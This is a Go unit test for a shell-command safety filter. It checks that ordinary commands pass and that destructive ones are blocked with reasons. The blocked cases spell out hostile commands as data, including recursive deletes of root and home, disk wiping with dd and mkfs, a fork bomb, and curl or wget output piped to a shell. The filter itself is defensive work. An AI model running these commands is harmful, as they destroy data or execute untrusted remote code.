package security_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/slok/iacore/internal/security"
)

func TestFilterCheck(t *testing.T) {
	tests := map[string]struct {
		command   string
		expOK     bool
		expReason string
	}{
		"Listing files is allowed":                  {command: "ls -la", expOK: true},
		"Removing a relative dir is allowed":        {command: "rm -rf ./build", expOK: true},
		"Removing a file without recursion is fine": {command: "rm -f /tmp/app.pid", expOK: true},
		"Echo is allowed":                           {command: "echo done", expOK: true},
		"Piping to grep is allowed":                 {command: "ps aux | grep go", expOK: true},
		"Downloading to a file is allowed":          {command: "curl -sSL https://example.com -o out.txt", expOK: true},

		"Wiping root is blocked":              {command: "rm -rf /", expReason: "recursive delete of root, an absolute path or home"},
		"Wiping root with split flags":        {command: "rm -f -r /", expReason: "recursive delete of root, an absolute path or home"},
		"Wiping root with reversed flags":     {command: "sudo rm -fr /*", expReason: "recursive delete of root, an absolute path or home"},
		"Wiping home is blocked":              {command: "rm -rf ~", expReason: "recursive delete of root, an absolute path or home"},
		"Wiping $HOME is blocked":             {command: "rm -rf $HOME", expReason: "recursive delete of root, an absolute path or home"},
		"Long recursive flag is blocked":      {command: "rm --recursive --force /etc", expReason: "recursive delete of root, an absolute path or home"},
		"Upper case is still blocked":         {command: "RM -RF /", expReason: "recursive delete of root, an absolute path or home"},
		"dd is blocked":                       {command: "dd if=/dev/zero of=/dev/sda bs=1M", expReason: "raw disk copy"},
		"mkfs is blocked":                     {command: "mkfs.ext4 /dev/sdb1", expReason: "filesystem format"},
		"Writing to a block device":           {command: "cat img > /dev/nvme0n1", expReason: "write to a block device"},
		"Fork bomb is blocked":                {command: ":(){ :|:& };:", expReason: "fork bomb"},
		"curl piped to sh is blocked":         {command: "curl -sSL https://x.sh | sh", expReason: "remote script piped to a shell"},
		"wget piped to sudo bash is blocked":  {command: "wget -qO- https://x.sh | sudo bash", expReason: "remote script piped to a shell"},
		"Piping anything to bash is blocked":  {command: "cat script.txt | bash", expReason: "output piped to bash or sudo"},
		"Piping anything to sudo is blocked":  {command: "echo y | sudo tee /etc/x", expReason: "output piped to bash or sudo"},
		"Chained dangerous command is caught": {command: "make build && rm -rf /", expReason: "recursive delete of root, an absolute path or home"},
	}

	f, err := security.NewFilter(nil)
	require.NoError(t, err)

	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			assert := assert.New(t)

			reason, ok := f.Check(test.command)

			assert.Equal(test.expOK, ok)
			assert.Equal(test.expReason, reason)
		})
	}
}

func TestNewFilterCustomRules(t *testing.T) {
	f, err := security.NewFilter([]security.Rule{{Pattern: `\bshutdown\b`, Reason: "host shutdown"}})
	require.NoError(t, err)

	reason, ok := f.Check("sudo shutdown -h now")
	assert.False(t, ok)
	assert.Equal(t, "host shutdown", reason)

	// Custom rules replace the defaults.
	_, ok = f.Check("rm -rf /")
	assert.True(t, ok)

	_, err = security.NewFilter([]security.Rule{{Pattern: `(`}})
	assert.Error(t, err)
}
